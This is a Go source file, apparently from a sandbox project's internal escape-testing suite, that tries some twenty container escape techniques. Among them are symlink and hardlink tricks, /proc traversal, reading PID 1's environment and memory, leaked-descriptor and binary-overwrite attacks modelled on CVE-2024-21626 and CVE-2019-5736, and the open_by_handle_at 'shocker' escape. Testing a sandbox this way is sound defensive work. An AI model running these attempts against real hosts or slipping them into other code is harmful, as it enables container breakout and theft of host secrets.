package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/skerry-sandbox/skerry/internal/attack/wire"
)

const workspace = "/mnt/user-data/workspace"

// fileAttempts go for files of the host and of the house.
var fileAttempts = map[string]attempt{
	"symlink-to-host":     symlinkToHost,
	"hardlink-of-root":    hardlinkOfRoot,
	"rename-mount-target": renameMountTarget,
	"proc-root":           throughProc("root"),
	"proc-cwd":            throughProc("cwd"),
	"pid1-environ":        pid1Environ,
	"pid1-mem":            pid1Mem,
	"pid1-fd":             pid1FD,
	"leaked-folder":       leakedFolder,
	"leaked-socket":       leakedSocket,
	"write-root":          writeRoot,
	"write-skills":        writeIn("/mnt/skills"),
	"write-code-api":      writeIn("/mnt/code-api"),
	"write-daemon":        writeDaemon,
	"own-sockets":         ownSockets,
	"watch-image":         watchFile("image-file"),
	"watch-skills":        watchFile("skill-file"),
	"lock-image":          lockFile("image-file"),
	"lock-skills":         lockFile("skill-file"),
	"shocker":             shocker,
	"name-to-handle":      nameToHandle,
}

// secretIn reports whether the file holds the secret that the attack is after.
func secretIn(path, secret string) (string, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return "", err
	}
	if secret == "" || !bytes.Contains(data, []byte(secret)) {
		return "", refusal("another file")
	}
	return "read the secret in " + path, nil
}

func symlinkToHost(f wire.Facts) (string, error) {
	link := filepath.Join(workspace, "to-host")
	_ = os.Remove(link)
	if err := os.Symlink(f["canary"], link); err != nil {
		return "", broken("symlink", err)
	}
	return secretIn(link, f["secret"])
}

// hardlinkOfRoot links root's file under a name of its own: a server that later changes the workspace's owner to its uid
// hands over that file.
func hardlinkOfRoot(wire.Facts) (string, error) {
	link := filepath.Join(workspace, "roots-file")
	_ = os.Remove(link)
	return "linked", os.Link("/mnt/user-data/of-root", link)
}

// renameMountTarget puts a link where the next start mounts or the server writes.
func renameMountTarget(wire.Facts) (string, error) {
	if err := os.Rename("/mnt/user-data/uploads", "/mnt/user-data/was-uploads"); err != nil {
		return "", err
	}
	if err := os.Symlink("/etc", "/mnt/user-data/uploads"); err != nil {
		return "", err
	}
	return "uploads is a link to /etc", nil
}

// pids lists the processes that can be seen.
func pids() ([]string, error) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return nil, broken("list /proc", err)
	}
	var out []string
	for _, e := range entries {
		if c := e.Name()[0]; c >= '0' && c <= '9' {
			out = append(out, e.Name())
		}
	}
	return out, nil
}

// throughProc looks for the host's file below a magic link of every process.
func throughProc(link string) attempt {
	return func(f wire.Facts) (string, error) {
		all, err := pids()
		if err != nil {
			return "", err
		}
		up := ""
		if link == "cwd" {
			up = strings.Repeat("/..", 12)
		}
		worst := error(refusal("no process"))
		for _, pid := range all {
			found, err := secretIn("/proc/"+pid+"/"+link+up+f["canary"], f["secret"])
			if err == nil {
				return found, nil
			}
			if !errors.Is(worst, unix.EACCES) {
				worst = err
			}
		}
		return "", worst
	}
}

// pid1Environ reads what PID 1 was started with.
func pid1Environ(wire.Facts) (string, error) {
	data, err := os.ReadFile("/proc/1/environ")
	if err != nil {
		return "", err
	}
	if len(data) == 0 {
		return "", refusal("empty")
	}
	return fmt.Sprintf("%d bytes", len(data)), nil
}

// pid1Mem writes into the memory of PID 1.
func pid1Mem(wire.Facts) (string, error) {
	fd, err := unix.Open("/proc/1/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	address, err := firstMapping("1")
	if err != nil {
		return "", err
	}
	b := make([]byte, 8)
	if _, err := unix.Pread(fd, b, address); err != nil {
		return "", err
	}
	return fmt.Sprintf("read %x at %x, open for writing", b, address), nil
}

// firstMapping returns an address that a process has mapped.
func firstMapping(pid string) (int64, error) {
	data, err := os.ReadFile("/proc/" + pid + "/maps")
	if err != nil {
		return 0, err
	}
	var from int64
	if _, err := fmt.Sscanf(string(data), "%x-", &from); err != nil {
		return 0, refusal("no mapping shown")
	}
	return from, nil
}

// pid1FD opens what PID 1 has open.
func pid1FD(wire.Facts) (string, error) {
	entries, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return "", err
	}
	worst := error(refusal("none shown"))
	for _, e := range entries {
		target, err := os.Readlink("/proc/1/fd/" + e.Name())
		if err == nil {
			return "descriptor " + e.Name() + " is " + target, nil
		}
		worst = err
	}
	return "", worst
}

const maxFD = 1024

// leakedFolder looks for the host's file through every descriptor that was inherited, as CVE-2024-21626 did.
func leakedFolder(f wire.Facts) (string, error) {
	up := strings.Repeat("../", 12)
	for fd := range maxFD {
		for _, path := range []string{up + strings.TrimPrefix(f["canary"], "/"), "."} {
			file, err := unix.Openat(fd, path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			b := make([]byte, 4096)
			n, _ := unix.Read(file, b)
			_ = unix.Close(file)
			if n > 0 && bytes.Contains(b[:n], []byte(f["secret"])) {
				return fmt.Sprintf("read the secret through descriptor %d", fd), nil
			}
		}
	}
	return secretOfCwd(up, f)
}

func secretOfCwd(up string, f wire.Facts) (string, error) {
	if found, err := secretIn(up+strings.TrimPrefix(f["canary"], "/"), f["secret"]); err == nil {
		return found, nil
	}
	return "", refusal("no such descriptor")
}

// leakedSocket looks for a socket that was inherited: one of sandboxd's own leads to the server.
func leakedSocket(wire.Facts) (string, error) {
	for fd := 3; fd < maxFD; fd++ {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFSOCK {
			continue
		}
		family, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN)
		if err == nil {
			return fmt.Sprintf("descriptor %d is a socket of family %d", fd, family), nil
		}
	}
	return "", refusal("no such descriptor")
}

func writeIn(dir string) attempt {
	return func(wire.Facts) (string, error) {
		path := filepath.Join(dir, "planted")
		return "wrote " + path, os.WriteFile(path, []byte("x"), 0o600)
	}
}

// writeRoot plants a file where programs of the image are.
func writeRoot(f wire.Facts) (string, error) {
	var worst error
	for _, dir := range []string{"/usr/bin", "/etc", "/opt", "/"} {
		found, err := writeIn(dir)(f)
		if err == nil {
			return found, nil
		}
		if !errors.Is(err, os.ErrNotExist) {
			worst = err
		}
	}
	return "", worst
}

// writeDaemon overwrites the program that the next sandbox runs as PID 1 (the aim of CVE-2019-5736). It
// tries the program's path and the link to what PID 1 runs.
func writeDaemon(wire.Facts) (string, error) {
	var worst error
	for _, path := range []string{"/proc/1/exe", "/opt/skerry/skerry-sandboxd"} {
		file, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
		if err == nil {
			_, err = file.WriteString("x")
			file.Close()
		}
		if err == nil {
			return "wrote into " + path, nil
		}
		worst = err
	}
	return "", worst
}

// ownSockets puts something of its own where sandboxd dials the server.
func ownSockets(wire.Facts) (string, error) {
	for _, name := range []string{"bridge.sock", "control.sock"} {
		if err := os.Rename("/run/skerry/"+name, "/run/skerry/was-"+name); err != nil {
			return "", err
		}
	}
	return "both sockets were moved away", nil
}

// shocker opens a file of the host by its handle, past every mount.
func shocker(f wire.Facts) (string, error) {
	var kind int32
	var raw []byte
	if _, err := fmt.Sscanf(f["handle"], "%d:%x", &kind, &raw); err != nil {
		return "", broken("handle", err)
	}
	at, err := unix.Open(workspace, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return "", broken("open the workspace", err)
	}
	defer unix.Close(at)
	fd, err := unix.OpenByHandleAt(at, unix.NewFileHandle(kind, raw), unix.O_RDONLY)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	b := make([]byte, 4096)
	n, err := unix.Read(fd, b)
	if err != nil {
		return "", err
	}
	if !bytes.Contains(b[:n], []byte(f["secret"])) {
		return "", refusal("another file")
	}
	return "read the secret by its handle", nil
}

// nameToHandle learns how handles of this file system look, the first step of guessing one.
func nameToHandle(wire.Facts) (string, error) {
	h, mount, err := unix.NameToHandleAt(unix.AT_FDCWD, workspace, 0)
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("handle of type %d on mount %d", h.Type(), mount), nil
}
